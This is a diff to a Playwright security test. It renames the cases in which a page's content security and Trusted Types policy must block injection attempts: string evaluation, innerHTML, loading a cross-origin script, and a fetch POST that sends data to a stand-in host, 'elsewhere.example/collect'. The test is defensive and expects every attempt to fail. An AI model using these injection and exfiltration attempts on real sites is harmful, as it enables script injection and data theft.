@@ -4,7 +4,7 @@ import { expect, test } from './fixtures';
 
 /** Attacks that the page's policy must block; each returns whether it succeeded. */
 const attempts: Record<string, (page: Page) => Promise<boolean>> = {
-  'evaluate text': (page) =>
+  'evaluate a string': (page) =>
     page.evaluate(
       () =>
         new Promise<boolean>((resolve) => {
@@ -19,7 +19,7 @@ const attempts: Record<string, (page: Page) => Promise<boolean>> = {
           }, 0);
         }),
     ),
-  'run a text later': (page) =>
+  'run a string with setTimeout': (page) =>
     page.evaluate(
       () =>
         new Promise<boolean>((resolve) => {
@@ -32,7 +32,7 @@ const attempts: Record<string, (page: Page) => Promise<boolean>> = {
           setTimeout(() => resolve(false), 200);
         }),
     ),
-  'put markup into the page': (page) =>
+  'set innerHTML': (page) =>
     page.evaluate(() => {
       try {
         document.body.appendChild(document.createElement('div')).innerHTML = '<img alt="">';
@@ -41,7 +41,7 @@ const attempts: Record<string, (page: Page) => Promise<boolean>> = {
         return false;
       }
     }),
-  'make a policy of its own': (page) =>
+  'create a Trusted Types policy': (page) =>
     page.evaluate(() => {
       const { trustedTypes } = window as unknown as {
         trustedTypes: { createPolicy(name: string, rules: object): unknown };
@@ -53,7 +53,7 @@ const attempts: Record<string, (page: Page) => Promise<boolean>> = {
         return false;
       }
     }),
-  'run a script from elsewhere': (page) =>
+  'load a script from another origin': (page) =>
     page.evaluate(
       () =>
         new Promise<boolean>((resolve) => {
@@ -64,7 +64,7 @@ const attempts: Record<string, (page: Page) => Promise<boolean>> = {
           document.head.append(script);
         }),
     ),
-  'send data elsewhere': (page) =>
+  'send data to another origin': (page) =>
     page.evaluate(() =>
       fetch('https://elsewhere.example/collect', {
         method: 'POST',
@@ -92,10 +92,10 @@ for (const server of ['npm start', 'nginx'] as const)
     );
     await page.goto(url);
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-    const done = [];
+    const succeeded = [];
     for (const [what, attempt] of Object.entries(attempts))
-      if (await attempt(page)) done.push(what);
-    expect(done).toEqual([]);
+      if (await attempt(page)) succeeded.push(what);
+    expect(succeeded).toEqual([]);
 
     await page.route('https://framing.example/', (route) =>
       route.fulfill({ contentType: 'text/html', body: `<iframe src="${url}"></iframe>` }),
